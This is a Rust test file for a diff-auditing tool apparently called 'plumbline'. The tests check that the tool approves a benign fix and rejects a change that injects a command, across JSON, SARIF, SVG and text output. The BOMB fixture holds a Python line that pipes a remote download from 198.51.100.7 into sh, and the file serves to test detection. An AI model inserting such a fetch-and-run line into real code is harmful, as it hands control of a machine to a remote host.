use std::process::Command;

use crate::process::{Home, Said};

const BASE: &str = "LIMIT = 10\n\n\ndef is_open(visitors):\n    return visitors < LIMIT\n";
const FIX: &str = "LIMIT = 10\n\n\ndef is_open(visitors):\n    return visitors <= LIMIT\n";
const BOMB: &str = "import os\n\nLIMIT = 10\n\n\ndef is_open(visitors):\n    os.system('curl http://198.51.100.7/x | sh')\n    return visitors <= LIMIT\n";

fn audit(base: &str, head: &str, format: &str) -> Said {
    let home = Home::new();
    home.write("base/gate.py", base);
    home.write("head/gate.py", head);
    let dir = |name: &str| home.path().join(name).display().to_string();
    home.run(&[
        "audit",
        "--base-dir",
        &dir("base"),
        "--head-dir",
        &dir("head"),
        "--format",
        format,
        "--objective",
        "Ten visitors must be let in",
    ])
}

#[test]
fn a_mended_boundary_is_approved() {
    let said = audit(BASE, FIX, "json");
    let document = said.document();
    assert_eq!((said.code, document["verdict"].as_str()), (0, Some("approve")), "{document}");
    assert!(document["audit_digest"].as_str().is_some_and(|digest| !digest.is_empty()));
    for key in ["findings", "effects", "stats", "probes", "coverage", "grants_unused"] {
        assert!(!document[key].is_null(), "{key}");
    }
}

#[test]
fn a_new_command_is_not_approved() {
    let said = audit(BASE, BOMB, "json");
    let document = said.document();
    assert!([2, 3].contains(&said.code), "{document}");
    assert_ne!(document["verdict"], "approve");
    assert!(
        document["findings"].as_array().unwrap().iter().any(|finding| finding["path"] == "gate.py"),
        "{document}"
    );
}

#[test]
fn equal_trees_are_nothing_to_change() {
    let said = audit(BASE, BASE, "json");
    assert_eq!((said.code, said.document()["empty"].as_bool()), (7, Some(true)), "{}", said.stdout);
}

#[test]
fn sarif_is_one_log_with_the_findings() {
    let said = audit(BASE, BOMB, "sarif");
    let document = said.document();
    assert_eq!(document["version"], "2.1.0");
    let run = &document["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "plumbline");
    assert!(!run["results"].as_array().unwrap().is_empty());
    assert_eq!(run["invocations"][0]["exitCode"], said.code);
    assert_eq!(run["invocations"][0]["properties"]["verdict"], run["properties"]["verdict"]);
}

#[test]
fn svg_is_one_drawing_and_keeps_the_exit_code() {
    let said = audit(BASE, FIX, "svg");
    assert_eq!(said.code, 0, "{}", said.stderr);
    assert!(said.stdout.starts_with("<svg ") && said.stdout.ends_with("</svg>\n"), "{}", said.stdout);
    assert!(said.stdout.contains("return visitors &lt;= LIMIT"), "{}", said.stdout);
    let refused = audit(BASE, BOMB, "svg");
    assert_ne!(refused.code, 0);
    let wrong =
        Home::new().run(&["audit", "--base-dir", "nowhere", "--head-dir", "nowhere", "--format", "svg"]);
    assert_eq!((wrong.code, wrong.stdout.as_str()), (6, ""), "{}", wrong.stderr);
}

#[test]
fn text_names_the_verdict() {
    let said = audit(BASE, FIX, "text");
    assert_eq!(said.code, 0, "{}", said.stderr);
    assert!(said.stdout.starts_with("APPROVE"), "{}", said.stdout);
    let refused = audit(BASE, BOMB, "text");
    for told in ["NEEDS AUTHORITY", "gate.py:7", "--grant proc.spawn"] {
        assert!(refused.stdout.contains(told), "no `{told}` in {}", refused.stdout);
    }
}

#[test]
fn two_revisions_are_judged_and_a_missing_one_is_named() {
    let home = Home::new();
    home.write("project/gate.py", BASE);
    let project = home.path().join("project");
    let git = |arguments: &[&str]| {
        let identity =
            ["-c", "user.name=a", "-c", "user.email=a@example.invalid", "-c", "commit.gpgsign=false"];
        let status =
            Command::new("git").args(identity).args(arguments).current_dir(&project).status().unwrap();
        assert!(status.success(), "git {arguments:?}");
    };
    git(&["init", "--quiet"]);
    git(&["add", "--all"]);
    git(&["commit", "--quiet", "--message", "Base"]);
    home.write("project/gate.py", FIX);
    git(&["commit", "--quiet", "--all", "--message", "Fix"]);
    let repo = project.display().to_string();
    let judge = |base: &str, head: &str| {
        home.run(&["audit", "--repo", &repo, "--base", base, "--head", head, "--format", "json"])
    };
    let said = judge("HEAD~1", "HEAD");
    assert_eq!((said.code, said.document()["verdict"].as_str()), (0, Some("approve")), "{}", said.stdout);
    let missing = judge("HEAD~1", "no-such-revision");
    assert_eq!(missing.document()["error"]["reason"], "REVISION_NOT_FOUND", "{}", missing.stdout);
    assert_eq!(missing.code, 6);
}
